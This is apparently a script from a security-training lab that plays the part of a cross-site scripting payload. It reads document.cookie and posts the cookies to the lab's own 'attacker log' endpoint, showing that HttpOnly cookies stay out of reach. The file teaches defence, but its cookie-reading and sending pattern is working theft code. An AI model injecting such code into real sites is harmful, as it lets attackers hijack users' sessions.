// LAB — deliberately weak: the cookie-theft lab's "injected script". It does
// what a cross-site scripting payload does: read document.cookie and send it
// to the attacker (here, the lab's own attacker log). HttpOnly cookies never
// appear in document.cookie, so in defended mode it finds nothing.
(function () {
  "use strict";
  var saw = document.getElementById("steal-saw");
  var log = document.getElementById("attacker-log");
  var out = document.getElementById("steal-outcome");
  if (!saw || !log) { return; }
  var cookies = document.cookie;
  saw.textContent = cookies === "" ? "(empty: no cookie this script may read)" : cookies.replace(/=([^;]{8})[^;]*/g, "=$1…");
  var body = new URLSearchParams();
  body.set("cookies", cookies);
  // Not part of the attack: the learner's own shop token, so that the
  // outcome may be recorded in their lessons (a shop POST needs it).
  body.set("csrf_token", saw.closest("[data-csrf]").getAttribute("data-csrf") || "");
  fetch("/lab/cookie-theft/site/steal", {
    method: "POST",
    headers: { "Content-Type": "application/x-www-form-urlencoded", "Accept": "application/json" },
    body: body.toString(),
    credentials: "same-origin"
  }).then(function (r) {
    return r.json().then(function (res) {
      if (!r.ok) { throw new Error(res.error || "refused"); }
      return res;
    });
  }).then(function (res) {
    var li = document.createElement("li");
    li.textContent = new Date().toLocaleTimeString() + " — " + (res.captured ? "received " + res.captured : "received nothing") + " (" + res.mode + " mode)";
    log.appendChild(li);
    out.textContent = "The attack " + res.outcome + ". " + res.explain;
    out.setAttribute("data-outcome", res.outcome);
    out.className = "lab-outcome outcome-" + res.outcome;
  }).catch(function (err) {
    out.textContent = "Could not reach the attacker's log: " + err.message;
  });
})();
